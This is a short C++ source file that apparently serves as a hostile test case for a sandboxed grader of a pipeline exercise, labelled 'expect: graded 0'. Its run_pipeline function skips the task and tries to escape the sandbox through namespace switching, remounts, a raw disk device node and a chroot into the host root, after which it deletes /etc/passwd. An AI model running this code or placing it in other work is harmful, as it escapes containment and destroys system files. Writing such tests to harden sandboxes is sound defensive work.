// hostile: makes namespaces and mounts, to get out or to more rights
// expect: graded 0
#include "pipeline.hpp"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int split(char** words, Command* commands) {
  commands[0].argv = words;
  return 1;
}

int run_pipeline(const Command*, int) {
  const int root = open("/proc/1/root", O_PATH | O_DIRECTORY);
  setns(open("/proc/1/ns/mnt", O_RDONLY), 0);
  unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID);
  mount("none", "/", nullptr, MS_REC | MS_SHARED, nullptr);
  mount("/", "/tmp", nullptr, MS_BIND | MS_REC, nullptr);
  mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr);
  mknod("/tmp/disk", S_IFBLK | 0666, 0x800);
  if (fchdir(root) == 0 && chroot(".") == 0) unlink("/etc/passwd");
  return 0;
}
